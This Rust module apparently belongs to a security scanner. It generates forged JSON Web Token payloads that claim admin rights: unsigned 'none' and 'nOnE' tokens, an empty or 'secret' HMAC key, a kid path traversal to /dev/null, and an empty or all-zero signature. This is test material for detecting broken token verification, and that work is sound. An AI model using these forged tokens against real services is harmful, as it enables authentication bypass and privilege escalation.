//! Payloads that are JSON Web Tokens which nobody signed, or signed with a key that is no secret.
//!
//! The subject is the nonce. The twin is the same token with a signature of zeros: who accepts
//! that too does not look at signatures, or the field is no token.

use base64::{Engine, prelude::BASE64_URL_SAFE_NO_PAD};
use hmac::{Hmac, KeyInit, Mac};
use sha2::Sha256;

use super::{Effect, Payload, PayloadClass};

const fn jwt(id: &'static str, text: fn(&str) -> String, why: &'static str) -> Payload {
    Payload::new(PayloadClass::Jwt, id, "", Effect::Accepted, why).built(text, signed_with_zeros)
}

/// Best first.
pub(super) const PAYLOADS: &[Payload] = &[
    jwt(
        "jwt-none",
        |nonce| unsigned(r#"{"alg":"none","typ":"JWT"}"#, nonce),
        "RFC 7519 section 6 knows tokens without a signature, and some verifiers ask the token",
    ),
    jwt(
        "jwt-none-mixed-case",
        |nonce| unsigned(r#"{"alg":"nOnE","typ":"JWT"}"#, nonce),
        "for those who refuse the word in lower case only",
    ),
    jwt(
        "jwt-empty-key",
        |nonce| signed(r#"{"alg":"HS256","typ":"JWT"}"#, nonce, b""),
        "a key that was not configured is an empty text",
    ),
    jwt(
        "jwt-key-file",
        |nonce| signed(r#"{"alg":"HS256","typ":"JWT","kid":"../../../../../../../../dev/null"}"#, nonce, b""),
        "kid names the file of the key, and /dev/null is empty",
    ),
    jwt(
        "jwt-weak-key",
        |nonce| signed(r#"{"alg":"HS256","typ":"JWT"}"#, nonce, b"secret"),
        "the key of every tutorial",
    ),
    jwt(
        "jwt-no-signature",
        |nonce| unsigned(r#"{"alg":"HS256","typ":"JWT"}"#, nonce),
        "an empty signature, where only a wrong one is refused",
    ),
];

fn unsigned(header: &str, nonce: &str) -> String {
    format!("{}.", signing_input(header, nonce))
}

fn signed(header: &str, nonce: &str, key: &[u8]) -> String {
    let input = signing_input(header, nonce);
    let mut mac = Hmac::<Sha256>::new_from_slice(key).expect("HMAC takes keys of any length");
    mac.update(input.as_bytes());
    format!("{input}.{}", BASE64_URL_SAFE_NO_PAD.encode(mac.finalize().into_bytes()))
}

fn signed_with_zeros(nonce: &str) -> String {
    let input = signing_input(r#"{"alg":"HS256","typ":"JWT"}"#, nonce);
    format!("{input}.{}", BASE64_URL_SAFE_NO_PAD.encode([0; 32]))
}

/// Header and claims. It expires at the end of 2099.
fn signing_input(header: &str, nonce: &str) -> String {
    let claims = format!(r#"{{"sub":"{nonce}","admin":true,"iat":1700000000,"exp":4102444799}}"#);
    format!("{}.{}", BASE64_URL_SAFE_NO_PAD.encode(header), BASE64_URL_SAFE_NO_PAD.encode(claims))
}
